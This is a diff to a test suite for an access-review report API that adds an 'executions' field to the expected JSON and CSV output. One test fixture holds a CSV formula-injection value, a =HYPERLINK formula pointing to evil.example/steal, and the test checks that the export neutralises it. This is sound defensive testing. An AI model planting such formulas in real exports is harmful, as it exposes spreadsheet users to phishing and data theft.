@@ -482,6 +482,7 @@ describe('GET /v1/reports/access-review', () => {
         rubberStamps: 0,
         unusedGrants: 1,
         resourcesTouched: [],
+        executions: 0,
       },
       {
         agent: 'deploy-bot',
@@ -494,6 +495,7 @@ describe('GET /v1/reports/access-review', () => {
         rubberStamps: 0,
         unusedGrants: 0,
         resourcesTouched: [TABLE_ARN('orders')],
+        executions: 0,
       },
       {
         agent: 'etl-bot',
@@ -506,6 +508,7 @@ describe('GET /v1/reports/access-review', () => {
         rubberStamps: 1,
         unusedGrants: 1,
         resourcesTouched: [TABLE_ARN('flagged-ledger')],
+        executions: 0,
       },
     ]);
   });
@@ -517,12 +520,12 @@ describe('GET /v1/reports/access-review', () => {
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
     const lines = answer.text.trimEnd().split('\r\n');
     expect(lines[0]).toBe(
-      '"agent","issuer","requests","approved","denied","timedOut","medianDecisionSeconds","rubberStamps","unusedGrants","resourcesTouched"',
+      '"agent","issuer","requests","approved","denied","timedOut","medianDecisionSeconds","rubberStamps","unusedGrants","resourcesTouched","executions"',
     );
     expect(lines).toHaveLength(4);
     // The cell starts with a quote mark, so a spreadsheet shows the text instead of evaluating it.
     expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/steal"",""Click"")",`)).toBe(true);
-    expect(lines[2]).toBe(`"deploy-bot","${issuer.issuer}",3,1,2,0,35,0,0,"${TABLE_ARN('orders')}"`);
+    expect(lines[2]).toBe(`"deploy-bot","${issuer.issuer}",3,1,2,0,35,0,0,"${TABLE_ARN('orders')}",0`);
     expect(answer.text).not.toMatch(/(^|,)=/m);
   });
 
